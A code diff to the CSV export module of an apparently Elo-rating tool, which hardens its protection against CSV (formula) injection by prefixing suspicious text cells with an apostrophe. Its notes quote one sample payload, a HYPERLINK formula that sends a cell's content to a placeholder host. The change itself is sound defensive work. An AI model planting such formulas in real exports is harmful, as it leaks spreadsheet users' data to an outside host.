@@ -5,9 +5,11 @@ history, `elo-core ladder --csv` and `--history`, the tournament report's table 
 - Quoting as RFC 4180: a cell that holds a separator (any of the three, not only the one written: a German
   Excel splits a comma file on its semicolons), a double quote or a line break is quoted, its quotes doubled.
 - Formulas kept as text (OWASP, "CSV Injection"): a text cell that a spreadsheet would run as a formula, one
-  that starts with `=`, `+`, `-`, `@`, a tab or a carriage return and is no plain number (`-12.5` is one), is
-  written with a leading apostrophe, which Excel, LibreOffice and Google Sheets read as "this is text". A
-  player named `=HYPERLINK("http://x"&A1,"Click")` is then shown as his name, not as a link.
+  that starts with `=`, `+`, `-`, `@`, a tab or a carriage return, is written with a leading apostrophe, which
+  Excel, LibreOffice and Google Sheets read as "this is text". A player named `=HYPERLINK("http://x"&A1,"Click")`
+  is then shown as his name, not as a link. A text that looks like a number gets it too: a player named `+1` or
+  `-5` is a name, which Excel would read as the number 1 or -5 (the name lost); a number given as a number
+  (`-12.5`) is written as it is.
 - Lines end with CRLF (RFC 4180), in every file alike.
 - Cells: text; numbers (unrounded, as Python writes them, a whole float without `.0`); `yes`/`no` for a
   boolean; nothing for None.
@@ -34,7 +36,7 @@ FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", 
 """A text cell starting with one of these, after any spaces, is run as a formula by a spreadsheet (OWASP's list,
 and their full-width forms)."""
 _PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+([.,][0-9]+)?")
-"""Text that is a number (`-12.5`, `+3`, `-7,4`): no formula, written as it is."""
+"""Text a spreadsheet reads as a number (`12.5`, `7,4`): quoted only for the separator written (`_quoted`)."""
 MAX_CELL = 32_767
 """The most characters a text cell is written with (Excel's limit; it counts UTF-16 units, as it stores them)."""
 ELLIPSIS = "\u2026"
@@ -70,8 +72,8 @@ def cell(value: Any, separator: str = ",") -> str:
     """A cell's text before quoting: numbers with a decimal comma under `;`, formulas kept as text, text cut to
     `MAX_CELL` characters.
 
-    >>> cell(1512.25, ";"), cell(3.0), cell(True), cell(None), cell("-12.5"), cell("=1+1"), cell("@SUM(A1)")
-    ('1512,25', '3', 'yes', '', '-12.5', "'=1+1", "'@SUM(A1)")
+    >>> cell(1512.25, ";"), cell(3.0), cell(True), cell(None), cell(-12.5), cell("=1+1"), cell("+1")
+    ('1512,25', '3', 'yes', '', '-12.5', "'=1+1", "'+1")
     """
     if value is None:
         return ""
@@ -83,7 +85,8 @@ def cell(value: Any, separator: str = ",") -> str:
     if isinstance(value, int):
         return str(value)
     text = str(value)
-    if text.lstrip(" ").startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
+    # Text, even one that looks like a number ("+1", a name): a number came as an int or a float, above.
+    if text.lstrip(" ").startswith(FORMULA_STARTS):
         text = "'" + text  # before the cut: the apostrophe is in the cell, so it counts
     return capped(text)
 
